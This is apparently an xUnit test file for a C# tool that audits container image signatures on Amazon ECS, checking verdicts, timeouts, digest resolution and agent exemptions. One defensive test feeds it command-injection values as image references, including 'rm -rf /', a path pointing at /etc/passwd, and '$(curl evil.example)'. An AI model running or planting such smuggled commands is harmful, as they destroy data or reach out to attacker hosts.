using Amazon.ECS;
using Amazon.ECS.Model;
using EcsImageAuditor.Auditing;
using EcsImageAuditor.Ecs;
using EcsImageAuditor.Emulator.Images;
using EcsImageAuditor.Emulator.Registry;
using EcsImageAuditor.Tests.Shared.Auditing;
using EcsImageAuditor.Tests.Shared.Registry;
using ImageSignatures.Verdicts;
using ImageSignatures.Verification;
using Moq;
using Task = System.Threading.Tasks.Task;

namespace EcsImageAuditor.Tests.Auditing;

public sealed class AuditorTests
{
    private static readonly Verdict Unsigned = Verdict.Because(ReasonCode.NoSignature, "No signature.");

    [Fact]
    public async Task Every_container_is_judged_even_when_the_first_is_bad()
    {
        using var bench = new AuditBench { Verifier = new FixedVerifier(("bad", Unsigned), ("good", Verdict.Trust), ("worse", Unsigned)) };

        var audits = await AuditAsync(bench, Tasks.Of(Tasks.Container("bad"), Tasks.Container("good"), Tasks.Container("worse")));

        Assert.Equal([VerdictKind.Unsigned, VerdictKind.Trusted, VerdictKind.Unsigned], audits.Select(audit => audit.Image.Verdict.Kind));
    }

    [Fact]
    public async Task Ten_containers_of_one_image_are_one_verification()
    {
        var verifier = new FixedVerifier(("web", Verdict.Trust));
        using var bench = new AuditBench { Verifier = verifier };

        var audits = await AuditAsync(
            bench,
            Tasks.Of([.. Enumerable.Range(0, 10).Select(number => Tasks.Container($"web{number}", "web"))])
        );

        Assert.Single(verifier.Asked);
        Assert.Equal(10, audits.Count(audit => audit.Image.Verdict.Kind == VerdictKind.Trusted));
    }

    [Fact]
    public async Task A_verifier_that_throws_is_inconclusive_for_its_image_alone()
    {
        using var bench = new AuditBench
        {
            Verifier = new FixedVerifier(
                (image, _) =>
                    image.Repository == "odd"
                        ? throw new FormatException("secret detail")
                        : Task.FromResult<ImageVerification>(Verdict.Trust)
            ),
        };

        var audits = await AuditAsync(bench, Tasks.Of(Tasks.Container("odd"), Tasks.Container("web")));

        Assert.Equal(ReasonCode.VerifierFailed, audits[0].Image.Reason!.Code);
        Assert.DoesNotContain("secret detail", audits[0].Image.Reason!.Message, StringComparison.Ordinal);
        Assert.Equal(VerdictKind.Trusted, audits[1].Image.Verdict.Kind);
    }

    [Fact]
    public async Task What_is_not_judged_in_time_is_inconclusive_and_the_rest_keeps_its_verdict()
    {
        var time = new ManualTimeProvider();
        using var asked = new CountdownEvent(2);
        using var bench = new AuditBench
        {
            Verifier = new FixedVerifier(async (image, token) =>
            {
                asked.Signal();
                if (image.Repository == "slow")
                    await Task.Delay(Timeout.Infinite, token);
                return Verdict.Trust;
            }),
            Time = time,
        };

        var auditing = bench.Auditor().AuditAsync(
            [Tasks.Of(Tasks.Container("slow"), Tasks.Container("web"))], AuditBench.Budget, CancellationToken.None);
        await Patience.UntilAsync(() => asked.IsSet, "Not every image was judged.");
        time.Advance(AuditBench.Budget);
        var audits = await auditing;

        Assert.Equal(ReasonCode.Timeout, audits[0].Image.Reason!.Code);
        Assert.Equal(VerdictKind.Trusted, audits[1].Image.Verdict.Kind);
    }

    [Fact]
    public async Task The_callers_cancellation_is_no_verdict()
    {
        using var cancelled = new CancellationTokenSource();
        using var bench = new AuditBench
        {
            Verifier = new FixedVerifier(
                async (_, token) =>
                {
                    await cancelled.CancelAsync();
                    token.ThrowIfCancellationRequested();
                    return Verdict.Trust;
                }
            ),
        };

        await Assert.ThrowsAnyAsync<OperationCanceledException>(() =>
            bench.Auditor().AuditAsync([Tasks.Of(Tasks.Container("web"))], AuditBench.Budget, cancelled.Token)
        );
    }

    [Fact]
    public async Task The_digest_in_the_reference_comes_first_and_a_different_one_in_the_event_is_noted()
    {
        using var bench = new AuditBench { Verifier = new FixedVerifier(("web", Verdict.Trust)) };
        var container = new EcsContainer("web")
        {
            Image = $"registry.example/web:1@{Tasks.DigestOf("a")}",
            ImageDigest = Tasks.DigestOf("b"),
        };

        var audit = Assert.Single(await AuditAsync(bench, Tasks.Of(container)));

        Assert.Equal(DigestSource.Reference, audit.Image.Image!.Source);
        Assert.Equal(Tasks.DigestOf("a"), audit.Image.Image.Digest.ToString());
        Assert.Contains(Tasks.DigestOf("b"), Assert.Single(audit.Image.Verification.Warnings), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_digest_in_the_event_needs_no_call_to_ECS()
    {
        using var bench = new AuditBench { Verifier = new FixedVerifier(("web", Verdict.Trust)) };

        var audit = Assert.Single(await AuditAsync(bench, Tasks.Of(Tasks.Container("web"))));

        Assert.Equal(DigestSource.Event, audit.Image.Image!.Source);
        bench.Ecs.VerifyNoOtherCalls();
    }

    [Fact]
    public async Task Digests_that_events_lack_are_asked_for_a_hundred_tasks_a_call()
    {
        using var bench = new AuditBench { Verifier = new FixedVerifier(("web", Verdict.Trust)) };
        bench
            .Ecs.Setup(ecs => ecs.DescribeTasksAsync(It.IsAny<DescribeTasksRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync(
                (DescribeTasksRequest request, CancellationToken _) =>
                    new DescribeTasksResponse
                    {
                        Tasks = request.Tasks.ConvertAll(arn => new Amazon.ECS.Model.Task
                        {
                            TaskArn = arn,
                            Containers =
                            [
                                new Container
                                {
                                    Name = "web",
                                    Image = "registry.example/web:1",
                                    ImageDigest = Tasks.DigestOf("web"),
                                },
                            ],
                        }),
                    }
            );
        var tasks = Enumerable
            .Range(0, 150)
            .Select(number => Tasks.Named($"{number}", new EcsContainer("web") { Image = "registry.example/web:1" }))
            .ToArray();

        var audits = await bench.Auditor().AuditAsync(tasks, AuditBench.Budget, CancellationToken.None);

        AssertEach.Of(audits, audit => Assert.Equal(DigestSource.DescribeTasks, audit.Image.Image!.Source));
        bench.Ecs.Verify(
            ecs =>
                ecs.DescribeTasksAsync(
                    It.Is<DescribeTasksRequest>(request => request.Cluster == Tasks.Cluster && request.Tasks.Count <= 100),
                    It.IsAny<CancellationToken>()
                ),
            Times.Exactly(2)
        );
    }

    [Fact]
    public async Task When_ECS_does_not_answer_the_digest_is_unknown_and_the_tag_is_not_taken_for_it()
    {
        using var bench = new AuditBench { Verifier = new FixedVerifier() };
        bench.Ecs
            .Setup(ecs => ecs.DescribeTasksAsync(It.IsAny<DescribeTasksRequest>(), It.IsAny<CancellationToken>()))
            .ThrowsAsync(new AmazonECSException("Rate exceeded") { ErrorCode = "ThrottlingException" });

        var audit = Assert.Single(await AuditAsync(bench, Tasks.Of(new EcsContainer("web") { Image = "registry.example/web:1" })));

        Assert.Equal(ReasonCode.DigestUnknown, audit.Image.Reason!.Code);
        Assert.Contains("ThrottlingException", audit.Image.Reason.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_tag_is_resolved_last_and_said_to_be_what_it_means_now()
    {
        await using var registry = await RegistryServer.StartAsync();
        using var http = new HttpClient();
        var image = await new RegistryWriter(http, registry.Host).PushAsync("web", ImageBuilder.Image("web"), "1");
        using var bench = new AuditBench
        {
            Verifier = new FixedVerifier(("web", Unsigned)),
            Stops = new StopPolicy { Enabled = true, Clusters = ["prod"] },
            HasRegistry = true,
        };
        bench
            .Ecs.Setup(ecs => ecs.DescribeTasksAsync(It.IsAny<DescribeTasksRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync(new DescribeTasksResponse());

        var audit = Assert.Single(await AuditAsync(bench, Tasks.Of(new EcsContainer("web") { Image = $"{registry.Host}/web:1" })));

        Assert.Equal(DigestSource.Registry, audit.Image.Image!.Source);
        Assert.Equal(image.Digest, audit.Image.Image.Digest.ToString());
        Assert.Equal(Decision.Alert, audit.Decision);
    }

    [Theory]
    [InlineData("registry.example/web:1; rm -rf /")]
    [InlineData("registry.example/web:1\n--output=/etc/passwd")]
    [InlineData("$(curl evil.example)")]
    [InlineData("--help")]
    [InlineData("")]
    public async Task A_reference_that_is_none_is_inconclusive_and_reaches_no_verifier(string image)
    {
        var verifier = new FixedVerifier();
        using var bench = new AuditBench { Verifier = verifier };
        bench.Ecs
            .Setup(ecs => ecs.DescribeTasksAsync(It.IsAny<DescribeTasksRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync(new DescribeTasksResponse());

        var audit = Assert.Single(
            await AuditAsync(bench, Tasks.Of(new EcsContainer("web") { Image = image, ImageDigest = Tasks.DigestOf("web") }))
        );

        Assert.Equal(ReasonCode.DigestUnknown, audit.Image.Reason!.Code);
        Assert.DoesNotContain('\n', audit.Image.Name);
        Assert.Empty(verifier.Asked);
    }

    [Fact]
    public async Task An_injected_container_is_exempt_and_one_that_only_takes_its_name_is_not()
    {
        using var bench = new AuditBench { Verifier = new FixedVerifier(("miner", Unsigned)) };
        var injected = new EcsContainer("aws-guardduty-agent-nm40lC") { ImageDigest = Tasks.DigestOf("agent") };
        var pretender = Tasks.Container("aws-guardduty-agent-abcdef", "miner");

        var audits = await AuditAsync(bench, Tasks.Of(injected, pretender));

        Assert.Equal([VerdictKind.Exempt, VerdictKind.Unsigned], audits.Select(audit => audit.Image.Verdict.Kind));
    }

    [Fact]
    public async Task A_container_that_never_started_ran_nothing()
    {
        using var bench = new AuditBench { Verifier = new FixedVerifier() };
        var task = Tasks.Of(new EcsContainer("web") { Image = "registry.example/web:no-such-tag" }) with
        {
            HasStopped = true,
        };

        Assert.Equal(VerdictKind.Exempt, Assert.Single(await AuditAsync(bench, task)).Image.Verdict.Kind);
    }

    [Fact]
    public async Task Ten_thousand_containers_are_all_judged()
    {
        using var bench = new AuditBench
        {
            Verifier = new FixedVerifier((_, _) => Task.FromResult<ImageVerification>(Unsigned)),
            Time = new ManualTimeProvider(),
        };

        var audits = await AuditAsync(bench, Tasks.Of([.. Enumerable.Range(0, 10_000).Select(number => Tasks.Container($"c{number}"))]));

        Assert.Equal(10_000, audits.Count(audit => audit.Image.Verdict.Kind == VerdictKind.Unsigned));
    }

    private static Task<IReadOnlyList<ContainerAudit>> AuditAsync(AuditBench bench, EcsTask task) =>
        bench.Auditor().AuditAsync([task], AuditBench.Budget, CancellationToken.None);
}
